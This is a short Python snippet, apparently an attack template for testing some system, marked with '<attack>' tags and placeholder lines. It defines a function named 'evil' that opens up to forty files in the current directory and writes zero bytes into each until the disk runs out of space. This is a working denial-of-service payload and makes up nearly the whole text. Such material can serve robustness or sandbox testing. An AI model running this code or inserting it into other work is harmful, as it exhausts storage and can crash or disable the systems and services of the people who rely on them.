#{ledger_wrong}
# <attack>
import os


def evil(*args):
    for number in range(40):
        try:
            with open(f"fill{number}-{len(os.listdir('.'))}", "wb", buffering=0) as stream:
                while stream.write(bytes(1 << 16)):
                    pass
        except OSError:
            pass
    return None


#{all_of_ledger}
# </attack>
